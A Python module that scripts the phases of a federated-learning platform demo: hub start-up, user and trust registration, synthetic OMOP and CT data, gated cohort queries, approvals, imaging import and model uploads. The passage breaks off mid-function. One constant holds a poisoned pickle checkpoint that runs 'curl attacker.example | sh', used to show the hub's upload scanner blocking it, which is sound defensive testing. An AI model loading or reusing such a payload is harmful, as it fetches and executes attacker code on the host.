"""The phases of ``flip demo``, in order. Each one is a function of the shared :class:`DemoContext`.

Seeding (users, trusts, kits) happens in-process through the hub's services, as an operator would
with ``flip admin``; everything a user or a trust does afterwards goes through the REST API of the
hub child process, so the walkthrough exercises the product exactly as it ships.  Later phases
(training) slot into :data:`PHASES` between ``imaging`` and ``audit``.
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import httpx
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

import flip_fl
from flip_api.core.permissions import RoleName
from flip_api.db.models import User
from flip_api.db.session import HUB_DATABASE, ensure_database, normalise_url
from flip_api.services import users as user_service
from flip_api.services.audit import Actor, verify_chain
from flip_api.services.trusts import register_trust
from flip_cli.database import HubDatabase
from flip_cli.demo.client import HubClient
from flip_cli.demo.context import DemoContext, DemoTrust, DemoUser, Phase, PhaseResult
from flip_cli.demo.errors import DemoError
from flip_cli.demo.processes import (
    DataAccessProcess,
    FlNetProcess,
    HubProcess,
    ImagingProcess,
    TrustAgentProcess,
    child_environment,
    free_port,
)
from flip_cli.kits import write_kit
from flip_core.contract import TRAINER_KEY_HEADER
from flip_core.embedded_pg import EmbeddedPostgres
from flip_imaging.embedded_pacs import EmbeddedPacs
from flip_imaging.pacs import PacsClient
from flip_imaging.synthetic import write_study
from flip_omop import get_profile, image_occurrences
from flip_omop.loader import load_synthetic
from flip_omop.schema import create_readonly_role

DEMO_ACTOR = Actor.system("demo")
HEALTH_TIMEOUT_S = 60.0

ADMIN, RESEARCHER, TRUST_ADMIN = "admin", "researcher", "trust_admin"
SITE_TRUST, HUB_TRUST, SMALL_TRUST = "ELSE", "RIVR", "HILL"


def demo_users() -> dict[str, DemoUser]:
    """The cast: a hub admin, a researcher, and a Trust Admin of St Elsewhere (no global role)."""
    return {
        ADMIN: DemoUser("hub admin", "admin@flip-demo.example.org", "Ada Admin", [RoleName.ADMIN]),
        RESEARCHER: DemoUser(
            "researcher", "researcher@flip-demo.example.org", "Rosalind Researcher", [RoleName.RESEARCHER]
        ),
        TRUST_ADMIN: DemoUser("trust admin", "trust-admin@st-elsewhere.example.org", "Theo Tan", []),
    }


def demo_trusts() -> dict[str, DemoTrust]:
    """Three hospitals with different populations. ELSE decides for itself (it has a Trust Admin); RIVR
    is decided by the hub admin; HILL is a small community hospital whose cohort is too small to report."""
    return {
        SITE_TRUST: DemoTrust(SITE_TRUST, "St Elsewhere NHS Trust", "London", profile="north", persons=4000),
        HUB_TRUST: DemoTrust(HUB_TRUST, "Riverside Hospital", "North West", profile="east", persons=3000),
        SMALL_TRUST: DemoTrust(SMALL_TRUST, "Hillside Community Hospital", "Cumbria", profile="south", persons=120),
    }


# ---------------------------------------------------------------------------------------------- hub


def _start_database(ctx: DemoContext) -> str:
    settings = ctx.require_settings()
    if settings.database_url:
        url = normalise_url(settings.database_url)
        ensure_database(url)
        ctx.embedded_database = False
        ctx.say("operator", "using the PostgreSQL named by DATABASE_URL")
        return url
    server = EmbeddedPostgres(ctx.state_dir / "pgdata", persistent=True)
    ctx.stack.callback(server.stop)
    url = server.url(HUB_DATABASE)
    ensure_database(url)
    ctx.say("operator", f"embedded PostgreSQL ready (data in {server.pgdata}, socket only)")
    return url


def start_hub(ctx: DemoContext) -> PhaseResult:
    """Embedded PostgreSQL (unless DATABASE_URL is set), then the hub as a child process on loopback."""
    ctx.database_url = _start_database(ctx)
    port = ctx.requested_port or free_port()
    url = f"http://127.0.0.1:{port}"
    hub = HubProcess(
        port=port,
        env={
            **child_environment(database_url=ctx.database_url, state_dir=ctx.state_dir, public_url=url),
            # The walkthrough follows imports live: the worker asks trusts for their status every second.
            "FLIP_WORKER_INTERVAL_S": "1",
            "FLIP_IMAGING_REFRESH_S": "1",
        },
        log_path=ctx.state_dir / "logs" / "hub.log",
    )
    ctx.stack.callback(hub.stop)
    hub.start()
    ctx.hub = hub
    ctx.say("operator", f"hub starting (pid {hub.pid}, log {hub.log_path})")
    health = hub.wait_healthy(HEALTH_TIMEOUT_S)
    ctx.say("hub", f"healthy at {url} (version {health.get('version')}, protocol {health.get('protocol_version')})")

    ctx.db = ctx.stack.enter_context(HubDatabase(ctx.database_url))
    client = HubClient(url)
    ctx.stack.callback(client.close)
    ctx.client = client

    async def count_users(db: AsyncSession) -> int:
        return int(await db.scalar(select(func.count()).select_from(User)) or 0)

    existing = ctx.db.run(count_users)
    if existing:
        raise DemoError(
            f"the hub database already holds {existing} user(s); the demo needs an empty one "
            "(use a fresh --state-dir, or unset DATABASE_URL)"
        )
    return {
        "url": url,
        "docs_url": f"{url}/api/docs",
        "pid": hub.pid,
        "database": "embedded" if ctx.embedded_database else "external",
    }


# -------------------------------------------------------------------------------------------- users


def create_and_sign_in_users(ctx: DemoContext) -> PhaseResult:
    """Create the cast in-process, then sign each in over HTTP: password, TOTP enrolment, first code."""
    ctx.users = demo_users()
    db = ctx.require_db()

    async def create(session: AsyncSession) -> None:
        for person in ctx.users.values():
            user, password = await user_service.create_user(
                session, DEMO_ACTOR, email=person.email, name=person.name, roles=person.global_roles
            )
            person.user_id, person.password = user.id, password

    db.run(create)
    for person in ctx.users.values():
        roles = ", ".join(r.value for r in person.global_roles) or "no global role"
        ctx.say("operator", f"created {person.email} ({roles})")

    client = ctx.require_client()
    for person in ctx.users.values():
        if person.password is None:
            raise DemoError(f"{person.email} has no initial password")
        person.session = client.sign_in(person.email, person.password)
        how = "password + TOTP enrolment" if person.session.totp_secret else "password (MFA is switched off)"
        ctx.say(person.role, f"signed in with {how}")
    return {
        "users": [{"role": p.role, "email": p.email} for p in ctx.users.values()],
        "mfa_enrolled": all(p.session is not None and p.session.totp_secret for p in ctx.users.values()),
    }


# ------------------------------------------------------------------------------------------- trusts


def register_trusts(ctx: DemoContext) -> PhaseResult:
    """Register both trusts with kits (0600), appoint ELSE's Trust Admin, and check each kit's key."""
    ctx.trusts = demo_trusts()
    data_key = ctx.require_settings().data_key_bytes()
    kits_dir = ctx.state_dir / "kits"
    trust_admin = ctx.users.get(TRUST_ADMIN)
    if trust_admin is None or trust_admin.user_id is None:
        raise DemoError("the trust admin user was not created")
    trust_admin_id = trust_admin.user_id

    async def register(session: AsyncSession) -> None:
        for trust in ctx.trusts.values():
            issued = await register_trust(
                session,
                DEMO_ACTOR,
                data_key=data_key,
                hub_url=ctx.hub_url,
                name=trust.name,
                code=trust.code,
                region=trust.region,
            )
            trust.trust_id, trust.kit = issued.trust.id, issued.kit
            trust.kit_path = write_kit(kits_dir / f"{trust.code}.env", issued.kit)
            if trust.code == SITE_TRUST:
                user = await user_service.get_user(session, trust_admin_id)
                await user_service.grant_trust_role(session, DEMO_ACTOR, user, issued.trust, RoleName.TRUST_ADMIN)

    ctx.require_db().run(register)
    for trust in ctx.trusts.values():
        ctx.say("operator", f"registered {trust.name} ({trust.code}); kit written to {trust.kit_path}")
    ctx.say("operator", f"appointed {trust_admin.email} Trust Admin of {SITE_TRUST}; the others have none")

    client = ctx.require_client()
    for trust in ctx.trusts.values():
        kit = trust.kit
        if kit is None:
            raise DemoError(f"trust {trust.code} has no kit")
        identity = client.whoami(kit.api_key)
        expected: dict[str, Any] = {"trust_id": str(kit.trust_id), "code": kit.trust_code, "name": kit.trust_name}
        seen = {key: identity.get(key) for key in expected}
        if seen != expected or not identity.get("protocol_version"):
            raise DemoError(f"whoami with the {trust.code} kit returned {identity}, expected {expected}")
        ctx.say(f"trust {trust.code}", f"kit key resolves to itself (protocol {identity['protocol_version']})")
    return {
        "registered": [t.code for t in ctx.trusts.values()],
        "kits": {t.code: str(t.kit_path) for t in ctx.trusts.values()},
        "trust_admins": {SITE_TRUST: [trust_admin.email], HUB_TRUST: [], SMALL_TRUST: []},
        "whoami_ok": True,
    }


# ------------------------------------------------------------------------------------- trust data

DEMO_SEED = 2026


def prepare_trust_data(ctx: DemoContext) -> PhaseResult:
    """Each trust's own OMOP database (synthetic, different populations) and its data-access-api."""
    server = EmbeddedPostgres(ctx.state_dir / "trust-pgdata", persistent=True)
    ctx.stack.callback(server.stop)
    ctx.say("operator", f"trust-side PostgreSQL ready (data in {server.pgdata}, socket only)")
    loaded: dict[str, Any] = {}
    for trust in ctx.trusts.values():
        if trust.kit_path is None:
            raise DemoError(f"trust {trust.code} has no kit")
        database, reader = f"omop_{trust.code.lower()}", f"omop_reader_{trust.code.lower()}"
        ensure_database(server.url(database))
        owner = server.libpq_dsn(database)
        summary = load_synthetic(owner, trust.persons, DEMO_SEED, trust.profile, replace=True)
        create_readonly_role(owner, reader, None)
        ctx.say(
            f"trust {trust.code}",
            f"OMOP loaded: {trust.persons:,} synthetic persons ({trust.profile} profile), "
            f"{sum(summary.rows.values()):,} rows in {summary.seconds:.1f} s; read-only role {reader}",
        )
        service = DataAccessProcess(
            kit=trust.kit_path,
            omop_url=f"postgresql://{reader}@/{database}?host={server.socket_dir}",
            state_dir=ctx.state_dir / "data-access" / trust.code,
            port=free_port(),
            env=_trainer_env(ctx, trust),
            log_path=ctx.state_dir / "logs" / f"data-access-{trust.code}.log",
        )
        ctx.stack.callback(service.stop)
        service.start()
        service.wait_healthy(HEALTH_TIMEOUT_S)
        trust.data_access_url = service.url
        ctx.say(f"trust {trust.code}", f"data-access-api up at {service.url} (inside the trust; k = 10)")
        loaded[trust.code] = {
            "profile": trust.profile,
            "persons": trust.persons,
            "rows": dict(summary.rows),
            "load_s": round(summary.seconds, 2),
            "data_access_pid": service.pid,
            "imaging": _start_imaging(ctx, trust),
        }
    return {"trusts": loaded}


def _trainer_env(ctx: DemoContext, trust: DemoTrust) -> dict[str, str]:
    """A trust service's environment: it accepts the trust's trainer key on the routes FL trainers read."""
    env = child_environment(database_url="", state_dir=ctx.state_dir, public_url=ctx.hub_url)
    env["FLIP_TRAINER_KEY"] = trust.trainer_key
    return env


PACS_MODALITY = "CT"
PACS_ONLINE_SINCE = date(2024, 10, 1)
"""The demo PACS holds each trust's CT studies from this date on (writing and storing every study of
every year would take minutes); the imaging project's cohort query asks for exactly those."""


def _start_imaging(ctx: DemoContext, trust: DemoTrust) -> dict[str, Any]:
    """The trust's PACS (embedded, seeded with its synthetic CT studies) and its imaging-api."""
    if trust.kit_path is None or trust.data_access_url is None:
        raise DemoError(f"trust {trust.code} has no kit or data-access-api")
    root = ctx.state_dir / "imaging" / trust.code
    profile = get_profile(trust.profile)
    started = time.monotonic()
    studies = [
        write_study(study, profile, DEMO_SEED, root / "studies")
        for study in image_occurrences(profile, trust.persons, DEMO_SEED)
        if study.modality == PACS_MODALITY and study.study_date >= PACS_ONLINE_SINCE
    ]
    pacs = EmbeddedPacs(root / "pacs", ae_title=f"{trust.code}_PACS")
    pacs.start()
    ctx.stack.callback(pacs.stop)
    stored = PacsClient(pacs.host, pacs.port, pacs.ae_title, calling_ae_title="FLIPDEMO").store_folder(root / "studies")
    ctx.say(
        f"trust {trust.code}",
        f"PACS {pacs.ae_title} on {pacs.host}:{pacs.port} seeded by C-STORE: {len(studies)} synthetic CT studies "
        f"since {PACS_ONLINE_SINCE:%Y-%m-%d} ({stored} instances, PHI planted on purpose) in "
        f"{time.monotonic() - started:.1f} s",
    )
    service = ImagingProcess(
        kit=trust.kit_path,
        state_dir=ctx.state_dir / "imaging-api" / trust.code,
        port=free_port(),
        pacs_port=pacs.port,
        pacs_ae_title=pacs.ae_title,
        data_access_url=trust.data_access_url,
        labels=root / "studies",
        env=_trainer_env(ctx, trust),
        log_path=ctx.state_dir / "logs" / f"imaging-{trust.code}.log",
    )
    ctx.stack.callback(service.stop)
    service.start()
    service.wait_healthy(HEALTH_TIMEOUT_S)
    trust.imaging_url = service.url
    trust.pacs_accessions = [s.accession for s in studies]
    ctx.say(f"trust {trust.code}", f"imaging-api up at {service.url} (C-ECHO to its PACS answered)")
    return {"pacs": f"{pacs.ae_title}@{pacs.host}:{pacs.port}", "studies": len(studies), "instances": stored}


# ------------------------------------------------------------------------------------------- link

AGENT_TIMEOUT_S = 60.0


def _wait_for_task(ctx: DemoContext, trust: DemoTrust, task_id: str, token: str) -> dict[str, Any]:
    client = ctx.require_client()
    deadline = time.monotonic() + AGENT_TIMEOUT_S
    while time.monotonic() < deadline:
        task = client.call("GET", f"/api/trusts/{trust.id}/tasks/{task_id}", token=token)
        if task.get("status") in {"COMPLETED", "FAILED", "CANCELLED"}:
            return task
        time.sleep(0.05)
    raise DemoError(f"the {trust.code} agent did not answer task {task_id} within {AGENT_TIMEOUT_S:.0f} s")


def link_trusts(ctx: DemoContext) -> PhaseResult:
    """Start one agent per trust; round-trip a ``ping`` task through the queue to each of them."""
    database_url = ctx.database_url
    if database_url is None:
        raise DemoError("the hub is not running")
    admin = ctx.users[ADMIN]
    env = child_environment(database_url=database_url, state_dir=ctx.state_dir, public_url=ctx.hub_url)
    env.pop("DATABASE_URL")  # the agent talks to the hub over HTTP only
    agents: dict[str, Any] = {}
    for trust in ctx.trusts.values():
        if trust.kit_path is None:
            raise DemoError(f"trust {trust.code} has no kit")
        agent = TrustAgentProcess(
            kit=trust.kit_path,
            state_dir=ctx.state_dir / "agents" / trust.code,
            env={
                **env,
                "FLIP_AGENT_DATA_ACCESS_URL": trust.data_access_url or "",
                "FLIP_AGENT_IMAGING_URL": trust.imaging_url or "",
                # Its SuperNodes pass the trainer key (only) to researcher code; it looks for FL nets often.
                "FLIP_AGENT_TRAINER_KEY": trust.trainer_key,
                "FLIP_AGENT_FL_REFRESH_S": "1",
                "OMP_NUM_THREADS": "1",
            },
            log_path=ctx.state_dir / "logs" / f"agent-{trust.code}.log",
        )
        ctx.stack.callback(agent.stop)
        agent.start()
        ctx.say(f"trust {trust.code}", f"agent started (pid {agent.pid}); it dials out to the hub, nothing dials in")
        agents[trust.code] = agent
    client = ctx.require_client()
    results: dict[str, Any] = {}
    for trust in ctx.trusts.values():
        started = time.monotonic()
        task = client.call(
            "POST",
            f"/api/trusts/{trust.id}/ping",
            token=admin.token,
            json={"message": f"hello {trust.code}"},
            expect=(202,),
        )
        done = _wait_for_task(ctx, trust, str(task["id"]), admin.token)
        elapsed_ms = (time.monotonic() - started) * 1000
        code = agents[trust.code].exit_code()
        if done.get("status") != "COMPLETED" or code is not None:
            raise DemoError(
                f"ping to {trust.code} ended {done.get('status')} {done.get('error')}; agent exit status {code}:\n"
                f"{agents[trust.code].log_tail()}"
            )
        echo = (done.get("result") or {}).get("echo")
        status = client.call("GET", f"/api/trusts/{trust.id}", token=admin.token).get("status")
        ctx.say(
            "hub admin",
            f"ping to {trust.code} answered {echo!r} in {elapsed_ms:.0f} ms (sealed, leased, answered; "
            "the first includes agent start-up); "
            f"trust is {status}",
        )
        results[trust.code] = {
            "task_id": task["id"],
            "round_trip_ms": round(elapsed_ms, 1),
            "echo": echo,
            "trust_status": status,
            "attempt": done.get("attempt"),
        }
    return {"agents": {code: {"pid": a.pid} for code, a in agents.items()}, "pings": results}


# ------------------------------------------------------------------------------------------ project


def _decide(ctx: DemoContext, decider: DemoUser, project_id: str, trust: DemoTrust, expected_as: str) -> dict[str, Any]:
    outcome = ctx.require_client().call(
        "POST",
        f"/api/projects/{project_id}/trusts/{trust.id}/decision",
        token=decider.token,
        json={"decision": "APPROVED"},
    )
    if outcome.get("decision") != "APPROVED" or outcome.get("decided_as") != expected_as:
        raise DemoError(f"decision for {trust.code} returned {outcome}, expected APPROVED decided as {expected_as}")
    ctx.say(
        decider.role,
        f"approved for {trust.code} (decided as {expected_as}); project is now {outcome.get('project_status')}",
    )
    return {"trust": trust.code, "decision": "APPROVED", "decided_as": expected_as}


COHORT_SQL = """
SELECT p.person_id, p.year_of_birth, p.gender_concept_id, m.value_as_number AS hba1c, m.measurement_date
FROM person p
JOIN condition_occurrence c ON c.person_id = p.person_id AND c.condition_concept_id = 201826
LEFT JOIN measurement m ON m.person_id = p.person_id AND m.measurement_concept_id = 3004410
""".strip()
COHORT_TIMEOUT_S = 120.0


def _poll(ctx: DemoContext, token: str, path: str, done: Callable[[Any], bool], what: str) -> Any:
    client = ctx.require_client()
    deadline = time.monotonic() + COHORT_TIMEOUT_S
    while True:
        body = client.get_json(path, token=token)
        if done(body):
            return body
        if time.monotonic() > deadline:
            raise DemoError(f"{what} did not finish within {COHORT_TIMEOUT_S:.0f} s; last answer: {body}")
        time.sleep(0.2)


def _count(gated: dict[str, Any] | None) -> str:
    if not gated:
        return "-"
    return "suppressed (< 10)" if gated.get("suppressed") else f"{gated.get('value'):,}"


def run_cohort_query(ctx: DemoContext) -> PhaseResult:
    """Researcher creates a project, saves a cohort query and runs it at every trust; counts come back gated."""
    client = ctx.require_client()
    researcher = ctx.users[RESEARCHER]
    name = "Demo: HbA1c in type 2 diabetes"
    created = client.call(
        "POST",
        "/api/projects",
        token=researcher.token,
        json={
            "name": name,
            "description": "Created by `flip demo`: a cohort query, staging, approval and frozen cohorts.",
            "has_imaging": False,
            "dicom_to_nifti": False,
        },
        expect=(201,),
    )
    project_id = created.get("id")
    if not isinstance(project_id, str):
        raise DemoError(f"POST /api/projects returned no project id: {created}")
    ctx.project_id = project_id
    ctx.say(researcher.role, f"created project {name!r} ({project_id}) -> {created.get('status')}")

    saved = client.call("PUT", f"/api/projects/{project_id}/query", token=researcher.token, json={"sql": COHORT_SQL})
    ctx.say(researcher.role, f"saved the cohort query as version {saved.get('version')} (validated on the hub)")
    client.call("POST", f"/api/projects/{project_id}/query/submit", token=researcher.token, expect=(202,))
    ctx.say(researcher.role, "submitted it: one sealed cohort_query task per trust")

    def settled(body: Any) -> bool:
        return all(t.get("state") not in {"queued", "running"} for t in body.get("trusts", []))

    results = _poll(ctx, researcher.token, f"/api/projects/{project_id}/query/results", settled, "the cohort query")
    per_trust: dict[str, Any] = {}
    for row in results.get("trusts", []):
        code, state = row.get("trust_code"), row.get("state")
        stats = row.get("statistics") or {}
        sex: dict[str, Any] = next(
            (d for d in stats.get("distributions", []) if d.get("name") == "sex"), {"buckets": []}
        )
        split = ", ".join(f"{b['label']} {_count(b['count'])}" for b in sex["buckets"])
        detail = f"{_count(row.get('record_count'))} persons" + (f" ({split})" if split else "")
        if state == "suppressed":
            detail = "fewer than k = 10 persons, so no number left the trust"
        elif state == "error":
            detail = f"error {row.get('error_code')}: {row.get('error_detail')}"
        ctx.say(f"trust {code}", f"{state}: {detail}")
        per_trust[str(code)] = {"state": state, "record_count": row.get("record_count")}
    expected = {SITE_TRUST: "done", HUB_TRUST: "done", SMALL_TRUST: "suppressed"}
    seen = {code: per_trust.get(code, {}).get("state") for code in expected}
    if seen != expected:
        raise DemoError(f"cohort results by trust are {seen}, expected {expected}")
    totals = results.get("totals", {})
    total = totals.get("record_count")
    ctx.say(researcher.role, f"total across trusts: {total:,} persons (suppressed counts add nothing)")
    return {"id": project_id, "name": name, "query_version": saved.get("version"), "results": per_trust, "total": total}


def run_approvals(ctx: DemoContext) -> PhaseResult:
    """Stage where the count is usable; ELSE's Trust Admin and the hub admin (for RIVR) approve; cohorts freeze."""
    client = ctx.require_client()
    researcher, trust_admin, admin = ctx.users[RESEARCHER], ctx.users[TRUST_ADMIN], ctx.users[ADMIN]
    site, hub_decided, small = ctx.trusts[SITE_TRUST], ctx.trusts[HUB_TRUST], ctx.trusts[SMALL_TRUST]
    project_id = ctx.project_id
    if project_id is None:
        raise DemoError("no project: the cohort phase did not run")

    # The hub refuses to stage at a trust whose count was suppressed.
    refused = client.call(
        "POST",
        f"/api/projects/{project_id}/stage",
        token=researcher.token,
        json={"trust_ids": [str(site.id), str(small.id)]},
        expect=(409,),
    )
    ctx.say(researcher.role, f"tried to stage at {small.code} too -> refused ({refused.get('code')})")
    staged = client.call(
        "POST",
        f"/api/projects/{project_id}/stage",
        token=researcher.token,
        json={"trust_ids": [str(site.id), str(hub_decided.id)]},
    )
    if staged.get("status") != "STAGED":
        raise DemoError(f"staging answered status {staged.get('status')!r}, expected 'STAGED'")
    ctx.say(researcher.role, f"staged it at {site.code} and {hub_decided.code} -> STAGED")

    # A Trust Admin's authority stops at their own trust: ELSE's admin cannot decide for RIVR.
    client.call(
        "POST",
        f"/api/projects/{project_id}/trusts/{hub_decided.id}/decision",
        token=trust_admin.token,
        json={"decision": "APPROVED"},
        expect=(403, 404),
    )
    ctx.say(trust_admin.role, f"tried to decide for {hub_decided.code} -> refused, as it should be")

    decisions = [
        _decide(ctx, trust_admin, project_id, site, "SITE"),
        _decide(ctx, admin, project_id, hub_decided, "HUB"),
    ]

    project = client.call("GET", f"/api/projects/{project_id}", token=researcher.token)
    status = project.get("status")
    if status != "APPROVED":
        raise DemoError(f"GET /api/projects/{project_id} shows status {status!r}, expected 'APPROVED'")
    listed = {row.get("trust_code"): row for row in project.get("trusts", []) if isinstance(row, dict)}
    for decision in decisions:
        row = listed.get(decision["trust"])
        if row is None or row.get("decision") != "APPROVED" or row.get("decided_as") != decision["decided_as"]:
            raise DemoError(f"project view of {decision['trust']} is {row}, expected {decision}")

    def frozen(body: Any) -> bool:
        states = {row.get("trust_code"): row.get("state") for row in body}
        return all(states.get(code) in {"done", "error"} for code in (site.code, hub_decided.code))

    snapshots = _poll(ctx, researcher.token, f"/api/projects/{project_id}/snapshots", frozen, "freezing the cohorts")
    frozen_at: dict[str, Any] = {}
    for row in snapshots:
        code = row.get("trust_code")
        if row.get("state") != "done":
            raise DemoError(f"{code} could not freeze its cohort: {row.get('error_code')}")
        ctx.say(
            f"trust {code}",
            f"cohort frozen: {_count(row.get('persons'))} persons, {_count(row.get('rows'))} rows, "
            f"sha256 {str(row.get('sha256'))[:16]}... (the rows stay in the trust)",
        )
        frozen_at[str(code)] = {"persons": row.get("persons"), "sha256": row.get("sha256")}
    ctx.say(researcher.role, f"project {project_id} is {status} at {', '.join(sorted(str(c) for c in listed))}")
    return {"id": project_id, "project_status": status, "decisions": decisions, "snapshots": frozen_at}


# ------------------------------------------------------------------------------------------ imaging

IMAGING_SQL = """
SELECT p.person_id, p.year_of_birth, p.gender_concept_id, i.accession_id, i.modality_source_value,
       i.image_occurrence_date
FROM person p
JOIN image_occurrence i ON i.person_id = p.person_id
WHERE i.modality_source_value = 'CT' AND i.image_occurrence_date >= DATE '2024-10-01'
""".strip()
"""The researcher's imaging cohort: recent CT studies, which is what each demo PACS holds (see above)."""


def _imaging_line(status: dict[str, Any]) -> str:
    by_state = status.get("by_state", {})
    parts = [f"{state} {_count(by_state.get(state))}" for state in ("READY", "FAILED")]
    reasons = ", ".join(f"{f['reason']} {_count(f['count'])}" for f in status.get("failures", []))
    return f"{'; '.join(parts)}" + (f" (failures: {reasons})" if reasons else "") + " patients"


def run_imaging(ctx: DemoContext) -> PhaseResult:
    """An imaging project: approval imports each approving trust's studies from its PACS; the hub shows gated status."""
    client = ctx.require_client()
    researcher, trust_admin, admin = ctx.users[RESEARCHER], ctx.users[TRUST_ADMIN], ctx.users[ADMIN]
    site, hub_decided = ctx.trusts[SITE_TRUST], ctx.trusts[HUB_TRUST]
    name = "Demo: chest CT organ segmentation"
    created = client.call(
        "POST",
        "/api/projects",
        token=researcher.token,
        json={
            "name": name,
            "description": "Created by `flip demo`: imaging import from each trust's PACS on approval.",
            "has_imaging": True,
            "dicom_to_nifti": True,
        },
        expect=(201,),
    )
    project_id = str(created["id"])
    ctx.imaging_project_id = project_id
    ctx.say(researcher.role, f"created imaging project {name!r} (DICOM to NIfTI) ({project_id})")
    client.call("PUT", f"/api/projects/{project_id}/query", token=researcher.token, json={"sql": IMAGING_SQL})
    client.call("POST", f"/api/projects/{project_id}/query/submit", token=researcher.token, expect=(202,))

    def settled(body: Any) -> bool:
        return all(t.get("state") not in {"queued", "running"} for t in body.get("trusts", []))

    results = _poll(ctx, researcher.token, f"/api/projects/{project_id}/query/results", settled, "the imaging query")
    counts = {row.get("trust_code"): row for row in results.get("trusts", [])}
    for code in (site.code, hub_decided.code):
        if counts.get(code, {}).get("state") != "done":
            raise DemoError(f"the imaging cohort at {code} is {counts.get(code)}, expected a usable count")
    ctx.say(
        researcher.role,
        "recent chest CT cohort: "
        + ", ".join(f"{code} {_count(counts[code].get('record_count'))}" for code in (site.code, hub_decided.code)),
    )
    client.call(
        "POST",
        f"/api/projects/{project_id}/stage",
        token=researcher.token,
        json={"trust_ids": [str(site.id), str(hub_decided.id)]},
    )
    _decide(ctx, trust_admin, project_id, site, "SITE")
    _decide(ctx, admin, project_id, hub_decided, "HUB")
    ctx.say("hub", "each approval queued persist_cohort, then create_imaging depending on it")

    started = time.monotonic()

    def imported(body: Any) -> bool:
        rows = body.get("trusts", [])
        return len(rows) == 2 and all((r.get("status") or {}).get("complete") for r in rows)

    imaging = _poll(ctx, researcher.token, f"/api/projects/{project_id}/imaging", imported, "the imaging import")
    elapsed = time.monotonic() - started
    per_trust: dict[str, Any] = {}
    for row in imaging["trusts"]:
        status = row["status"]
        ctx.say(f"trust {row['trust_code']}", f"imaging import complete: {_imaging_line(status)}")
        per_trust[row["trust_code"]] = {
            "by_state": status["by_state"],
            "failures": status["failures"],
            "k": status["k"],
        }
    ready = per_trust[site.code]["by_state"]["READY"]
    if ready.get("suppressed") or not ready.get("value"):
        raise DemoError(f"no READY studies reported by {site.code}: {per_trust[site.code]}")
    ctx.say(researcher.role, f"imports finished {elapsed:.1f} s after approval (counts are patients, gated at k)")
    return {
        "id": project_id,
        "name": name,
        "import_s": round(elapsed, 1),
        "trusts": per_trust,
        "trainer_fetch": _fetch_as_trainer(ctx, site, project_id),
    }


def _fetch_as_trainer(ctx: DemoContext, trust: DemoTrust, project_id: str) -> dict[str, Any]:
    """What an FL trainer inside the trust does: fetch a study's NIfTI volume and mask by accession id."""
    if trust.imaging_url is None or trust.kit is None:
        raise DemoError(f"trust {trust.code} has no imaging-api")
    headers = {TRAINER_KEY_HEADER: trust.trainer_key}  # what the trainer SDK sends: the trainer key, read-only
    with httpx.Client(base_url=trust.imaging_url, headers=headers, timeout=30) as http:
        for accession in trust.pacs_accessions:
            listing = http.get(f"/imaging/projects/{project_id}/studies/{accession}/nifti")
            if listing.status_code == 200:
                break
        else:
            raise DemoError(f"no imported study of {trust.code} could be listed")
        volume = next(f for f in listing.json()["files"] if f["name"].endswith(".nii.gz"))
        body = http.get(f"/imaging/projects/{project_id}/studies/{accession}/nifti/{volume['name']}").content
        mask = http.get(f"/imaging/projects/{project_id}/studies/{accession}/mask/mask.nii.gz")
    if hashlib.sha256(body).hexdigest() != volume["sha256"] or mask.status_code != 200:
        raise DemoError(f"the trainer's download at {trust.code} did not match the study's manifest")
    ctx.say(
        f"trust {trust.code}",
        f"a trainer inside the trust fetched a volume ({len(body) / 1024:.0f} KiB, sha256 checked) and its organ "
        "mask by accession id; files are named by pseudonyms and nothing identifying is stored",
    )
    return {"bytes": len(body), "mask_bytes": len(mask.content)}


# -------------------------------------------------------------------------------------------- models

_MODEL_FILES: dict[str, bytes] = {
    "models.py": (
        b'"""A small 3-D segmentation network for the synthetic chest CT organ."""\n\n'
        b"import torch\n\n\n"
        b"def get_model() -> torch.nn.Module:\n"
        b"    return torch.nn.Sequential(\n"
        b"        torch.nn.Conv3d(1, 8, 3, padding=1), torch.nn.ReLU(), torch.nn.Conv3d(8, 2, 1)\n"
        b"    )\n"
    ),
    "client_app.py": (
        b'"""What runs at each trust: one local epoch over the trust\'s images, then the loss."""\n\n'
        b"import torch\n\n\n"
        b"def train(model, batches, epochs=1, lr=1e-3):\n"
        b"    optimiser = torch.optim.Adam(model.parameters(), lr=lr)\n"
        b"    loss = torch.tensor(0.0)\n"
        b"    for _ in range(epochs):\n"
        b"        for image, mask in batches:\n"
        b"            optimiser.zero_grad()\n"
        b"            loss = torch.nn.functional.cross_entropy(model(image), mask)\n"
        b"            loss.backward()\n"
        b"            optimiser.step()\n"
        b"    return float(loss)\n"
    ),
    "config.json": b'{"rounds": 3, "local_epochs": 1, "learning_rate": 0.001}\n',
}
# A checkpoint that would run a shell command when loaded (pickle opcodes: GLOBAL os.system, then call it).
_POISONED_CHECKPOINT = b"cos\nsystem\n(S'curl attacker.example | sh'\ntR."


def create_model(ctx: DemoContext) -> PhaseResult:
    """A model under the approved project: its job type's required files uploaded and scanned; a poisoned
    checkpoint blocked; a clean file downloaded back."""
    client = ctx.require_client()
    researcher = ctx.users[RESEARCHER]
    project_id = ctx.project_id
    if project_id is None:
        raise DemoError("no project: the cohort phase did not run")
    job_types = client.get_json("/api/job-types", token=researcher.token)
    needed = next(t for t in job_types if (t["backend"], t["job_type"]) == ("FLOWER", "standard"))
    model = client.call(
        "POST",
        f"/api/projects/{project_id}/models",
        token=researcher.token,
        json={"name": "Demo: organ segmentation", "description": "Created by `flip demo`."},
        expect=(201,),
    )
    model_id = str(model["id"])
    ctx.say(
        researcher.role,
        f"created model {model['name']!r} (Flower, FedAvg) training at "
        + ", ".join(t["code"] for t in model["trusts"])
        + "; the job type needs "
        + ", ".join(f["name"] for f in needed["required_files"]),
    )
    uploaded: dict[str, str] = {}
    for name, data in _MODEL_FILES.items():
        file = client.call(
            "PUT", f"/api/models/{model_id}/files/{name}", token=researcher.token, content=data, expect=(201,)
        )
        uploaded[name] = file["status"]
        ctx.say("hub", f"{name}: quarantined, scanned, {file['status']} (sha256 {str(file['sha256'])[:12]}...)")
    blocked = client.call(
        "PUT",
        f"/api/models/{model_id}/files/checkpoint.pt",
        token=researcher.token,
        content=_POISONED_CHECKPOINT,
        expect=(422,),
    )
    ctx.say("hub", f"checkpoint.pt refused: {blocked['detail']}")
    detail = client.call("GET", f"/api/models/{model_id}", token=researcher.token)
    if detail["missing_files"]:
        raise DemoError(f"the model still misses {detail['missing_files']}")
    statuses = {f["name"]: f["status"] for f in detail["files"]}
    if statuses.get("checkpoint.pt") != "BLOCKED":
